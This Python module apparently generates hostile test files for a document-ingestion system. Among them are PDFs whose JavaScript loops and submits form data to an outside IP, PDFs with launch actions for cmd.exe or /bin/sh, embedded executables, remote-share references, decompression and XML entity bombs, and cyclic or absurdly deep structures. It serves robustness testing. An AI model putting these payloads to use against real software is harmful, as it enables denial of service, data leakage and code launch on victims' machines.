"""Which papers are made to harm their reader? Each is made here, from a few lines; none of them does anything to this machine."""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib

from PIL import Image

_MANY = 1 << 20


def pdf(objects: dict[int, bytes], *, root: int = 1, tail: bytes = b"") -> bytes:
    """Return a PDF of these objects, with a table that is right."""
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 00000 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, tail, start)
    return bytes(out)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content)


def page(
    content: bytes = b"", *, more: bytes = b"", catalog: bytes = b"", box: bytes = b"[0 0 595 842]", **objects: bytes
):
    """Return a PDF of one page; objects from 10 on are named `o10=...`."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 4 0 R %s >>" % (box, more),
            4: stream(content),
            5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            **{int(name[1:]): body for name, body in objects.items()},
        }
    )


def text(words: str) -> bytes:
    return b"BT /F1 24 Tf 72 700 Td (%s) Tj ET" % words.encode()


FONT = b"/Resources << /Font << /F1 5 0 R >> >>"


def packed(size: int, times: int = 1) -> bytes:
    """Return zeros that unpack to `size` bytes after `times` rounds."""
    packing = zlib.compressobj(9, wbits=-15)
    piece = packing.compress(bytes(_MANY)) + packing.flush(zlib.Z_FULL_FLUSH)  # stands alone, so it can be repeated
    whole = b"\x78\xda" + piece * (size // _MANY) + b"\x03\x00" + struct.pack(">HH", size % 65_521, 1)
    for _ in range(times - 1):
        whole = zlib.compress(whole, 9)
    return whole


def _javascript() -> bytes:
    code = b"while (true) { app.alert('open'); this.submitForm('http://203.0.113.9/'); }"
    return page(text("x"), more=FONT, catalog=b"/OpenAction << /S /JavaScript /JS (%s) >>" % code)


def _launch() -> bytes:
    return page(catalog=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> /F (/bin/sh) >>")


def _embedded_program() -> bytes:
    program = b"MZ" + bytes(5_000)
    names = b"/Names << /EmbeddedFiles << /Names [(epoc.json) 10 0 R] >> >>"
    return page(catalog=names, o10=b"<< /Type /Filespec /F (epoc.json) /EF << /F 11 0 R >> >>",
                o11=stream(program, b"/Type /EmbeddedFile"))  # fmt: skip


def _embedded_bomb() -> bytes:
    names = b"/Names << /EmbeddedFiles << /Names [(epoc.json) 10 0 R] >> >>"
    return page(catalog=names, o10=b"<< /Type /Filespec /F (epoc.json) /EF << /F 11 0 R >> >>",
                o11=stream(packed(2 << 30, 2), b"/Type /EmbeddedFile /Filter [/FlateDecode /FlateDecode]"))  # fmt: skip


def _xfa() -> bytes:
    form = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>while(1);</script>" + b"<a>" * 50_000 + b"</xdp:xdp>"
    return page(catalog=b"/AcroForm << /XFA 10 0 R /Fields [] >>", o10=stream(form))


def _object_stream_bomb() -> bytes:
    entries = b"/Type /ObjStm /N 100000 /First 800000 /Filter /FlateDecode"
    return page(catalog=b"/Extra 11 0 R", o10=stream(packed(1 << 30), entries), o11=b"10 0 R")


def _content_bomb() -> bytes:
    whole = page()
    return whole.replace(
        b"<< /Length 0  >>\nstream\n\nendstream", stream(packed(4 << 30, 2), b"/Filter [/FlateDecode /FlateDecode]")
    )


def _laughing_forms() -> bytes:
    forms = {}
    for level in range(10, 22):
        inner = b"/X Do " * 12
        resources = b"/Resources << /XObject << /X %d 0 R >> >>" % (level + 1)
        forms[f"o{level}"] = stream(inner, b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] " + resources)
    forms["o22"] = stream(b"0 0 10 10 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 100 100]")
    return page(b"/X Do", more=b"/Resources << /XObject << /X 10 0 R >> >>", **forms)


def _form_in_itself() -> bytes:
    resources = b"/Resources << /XObject << /X 10 0 R >> >>"
    inner = stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] " + resources)
    return page(b"/X Do", more=resources, o10=inner)


def _huge_count() -> bytes:
    return page().replace(b"/Count 1 ", b"/Count 2147483647 ")


def _many_pages(count: int = 20_000) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(10, 10 + count))
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
                4: stream(b"0 0 9 9 re f"), **dict.fromkeys(range(10, 10 + count), leaf)})  # fmt: skip


def _cyclic_pages() -> bytes:
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 9 /Parent 3 0 R >>",
                3: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 9 /Parent 2 0 R >>"})  # fmt: skip


def _deep_pages() -> bytes:
    levels = {number: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1) for number in range(2, 30_000)}
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", **levels, 30_000: b"<< /Type /Page /MediaBox [0 0 9 9] >>"})


def _looping_tables() -> bytes:
    whole = page()
    start = whole.rindex(b"startxref")
    place = int(whole[start:].split()[1])
    return whole.replace(b"trailer\n<<", b"trailer\n<< /Prev %d" % place)


def _huge_image_in_pdf() -> bytes:
    image = stream(packed(3 << 30, 2), b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 "
                   b"/ColorSpace /DeviceRGB /Filter [/FlateDecode /FlateDecode]")  # fmt: skip
    return page(b"500 0 0 500 0 0 cm /I Do", more=b"/Resources << /XObject << /I 10 0 R >> >>", o10=image)


def _tiles() -> bytes:
    tile = stream(b"0 0 .01 .01 re f", b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 .01 .01] "
                  b"/XStep .001 /YStep .001 /Resources << >>")  # fmt: skip
    return page(b"/Pattern cs /P scn 0 0 595 842 re f", more=b"/Resources << /Pattern << /P 10 0 R >> >>", o10=tile)


def _shading() -> bytes:
    program = b"{ " + b"dup mul sin 2 exp abs sqrt " * 4_000 + b" pop pop 0 0 0 }"
    function = stream(program, b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]")
    shade = b"<< /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 1 0 1] /Matrix [595 0 0 842 0 0] /Function 11 0 R >>"
    return page(b"/S sh", more=b"/Resources << /Shading << /S 10 0 R >> >>", o10=shade, o11=function)


def _endless_path() -> bytes:
    return page(b"".join(b"%d %d m %d %d l S " % (n % 595, n % 842, n * 7 % 595, n * 13 % 842) for n in range(400_000)))


def _nested(opening: bytes, closing: bytes, depth: int = 200_000) -> bytes:
    return page(catalog=b"/Extra 10 0 R", o10=opening * depth + closing * depth)


def _many_signatures() -> bytes:
    count = 3_000
    fields = b" ".join(b"%d 0 R" % number for number in range(10, 10 + count))
    value = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 10 20 30] /Contents <%s> >>"
    field = b"<< /FT /Sig /T (s) /V %s >>" % (value % (b"30" * 500))
    return page(
        catalog=b"/AcroForm << /Fields [%s] /SigFlags 3 >>" % fields, **{f"o{10 + n}": field for n in range(count)}
    )


def _deep_signature() -> bytes:
    nested = b"30" + b"80" * 1 + b"3080" * 60_000
    value = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 10 20 30] /Contents <%s> >>"
    return page(
        catalog=b"/AcroForm << /Fields [10 0 R] /SigFlags 3 >>", o10=b"<< /FT /Sig /T (s) /V %s >>" % (value % nested)
    )


def _encrypted() -> bytes:
    lock = b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <%s> /U <%s> >>" % (b"41" * 32, b"42" * 32)
    whole = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
             3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>", 9: lock}  # fmt: skip
    return pdf(whole, tail=b"/Encrypt 9 0 R /ID [<00> <00>]")


def _elsewhere() -> bytes:
    image = b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Length 0 " \
            b"/F << /FS /URL /F (http://203.0.113.9/x.png) >> >>\nstream\n\nendstream"  # fmt: skip
    return page(b"/I Do", more=b"/Resources << /XObject << /I 10 0 R >> >>", o10=image,
                catalog=b"/OpenAction << /S /GoToR /F (//203.0.113.9/share/x.pdf) /D [0 /Fit] >>")  # fmt: skip


def _annotations() -> bytes:
    mark = b"<< /Type /Annot /Subtype /Square /Rect [0 0 595 842] /C [1 0 0] /AP << /N 4 0 R >> >>"
    return page(more=b"/Annots [%s]" % (mark * 50_000))


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, data: bytes, *, extra: bytes = b"") -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + extra + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def tiff(*folders: tuple[int, int], loop: bool) -> bytes:
    """Return a TIFF of grey pages of these sizes; the last one leads back to the first where it loops."""
    out, places = bytearray(b"II*\x00\x08\x00\x00\x00"), []
    for number, (width, height) in enumerate(folders):
        places.append(len(out))
        tags = ((256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8), (277, 3, 1),
                (278, 4, height), (279, 4, min(width * height, 64)))  # fmt: skip
        out += struct.pack("<H", len(tags)) + b"".join(
            struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags
        )
        follows = places[0] if loop else 0
        out += struct.pack("<I", len(out) + 4 if number + 1 < len(folders) else follows)
    return bytes(out) + bytes(64)


def _zip_bomb() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for number in range(3):
            made.writestr(f"{number}.xml", bytes(50 << 20))
    return file.getvalue()


def _laughing_xml() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{entities}]><x>&l11;</x>'.encode()


def _jpeg() -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (64, 64), "red").save(file, "JPEG")
    whole = bytearray(file.getvalue())
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = b"\xff\xff\xff\xff"
    return bytes(whole)


def files() -> dict[str, bytes]:
    """Return every hostile file by its name."""
    plain = page(text("An order"), more=FONT)
    return {
        "javascript": _javascript(),
        "launches a program": _launch(),
        "a program as form data": _embedded_program(),
        "form data that unpack to 2 GiB": _embedded_bomb(),
        "xfa form": _xfa(),
        "object stream bomb": _object_stream_bomb(),
        "content bomb, packed twice": _content_bomb(),
        "forms that multiply": _laughing_forms(),
        "a form inside itself": _form_in_itself(),
        "two thousand million pages, it says": _huge_count(),
        "twenty thousand pages": _many_pages(),
        "pages in a circle": _cyclic_pages(),
        "pages thirty thousand deep": _deep_pages(),
        "tables in a circle": _looping_tables(),
        "broken table": plain.replace(b"0000000", b"9999999"),
        "truncated": plain[: len(plain) // 2],
        "head alone": b"%PDF-1.7\n",
        "a zip behind a pdf": plain + _zip_bomb()[:200_000],
        "a page of the web behind a pdf": plain + b"<html><script>alert(1)</script></html>",
        "picture of 60000 by 60000 in a pdf": _huge_image_in_pdf(),
        "a million tiles": _tiles(),
        "endless shading": _shading(),
        "four hundred thousand lines": _endless_path(),
        "arrays without end": _nested(b"[", b"]"),
        "dictionaries without end": _nested(b"<< /A ", b" >>"),
        "page wider than the world": page(box=b"[0 0 1e30 1e30]"),
        "page of no size": page(box=b"[0 0 0 0]"),
        "page of ten thousand to one": page(box=b"[0 0 1 14400]"),
        "three thousand signatures": _many_signatures(),
        "signature without end": _deep_signature(),
        "encrypted": _encrypted(),
        "calls elsewhere": _elsewhere(),
        "fifty thousand annotations": _annotations(),
        "picture of 60000 by 60000": png(60_000, 60_000, packed(1 << 30)),
        "picture of two thousand million": png(2**31 - 1, 2**31 - 1, zlib.compress(b"x")),
        "picture that unpacks to more": png(100, 100, packed(1 << 30)),
        "picture with a text bomb": png(
            9, 9, zlib.compress(bytes(9 * 28)), extra=_chunk(b"zTXt", b"a\0\0" + packed(1 << 30))
        ),
        "jpeg of 65535 by 65535": _jpeg(),
        "tiff in a circle": tiff((9, 9), (9, 9), loop=True),
        "tiff of ten thousand pages": tiff(*[(9, 9)] * 10_000, loop=False),
        "tiff of 60000 by 60000": tiff((60_000, 60_000), loop=False),
        "zip bomb": _zip_bomb(),
        "deep xml": b"<a>" * 500_000,
        "xml that multiplies": _laughing_xml(),
        "deep json": b'{"A":' * 200_000,
        "json with a number without end": b'{"form": ' + b"9" * 2_000_000 + b"}",
        "json of one long list": b'{"form": "order", "asked": [' + b'{"value": "a"},' * 300_000 + b"{}]}",
        "json that repeats its keys": json.dumps({"form": "order"}).encode().replace(b"}", b', "form": 1}'),
        "empty": b"",
        "zeros": bytes(5 << 20),
    }
